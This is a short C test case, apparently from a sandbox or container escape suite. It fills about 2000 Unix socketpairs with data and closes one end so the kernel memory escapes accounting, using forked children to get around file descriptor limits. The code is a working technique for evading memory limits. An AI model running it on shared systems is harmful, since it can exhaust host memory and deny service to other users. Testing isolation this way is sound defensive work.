// escape: memory in what sockets have received from a peer that is closed, so that nobody is charged for it
// layer: memory
// outside: works
#include "payload.h"

static char block[4096];

static void attempt(void) {
    size_t held = 0;
    for (int i = 0; i < 8 * 250; i++) {
        int ends[2];
        if (i % 250 == 0 && i > 0) {
            // The child keeps its copy; the parent goes on with room for more.
            pid_t child = fork();
            if (child < 0) blocked("fork");
            if (!child) {
                prctl(PR_SET_PDEATHSIG, SIGKILL);
                pause();
            }
            for (int fd = 3; fd < 300; fd++) close(fd);
        }
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) < 0) blocked("socketpair");
        for (ssize_t n; (n = write(ends[0], block, sizeof block)) > 0;) held += n;
        close(ends[0]);
    }
    pause_ms(600);
    if (held < 260 << 20) no_effect("filling 2000 sockets");
    worked("%zu MB in sockets without a peer", held >> 20);
}
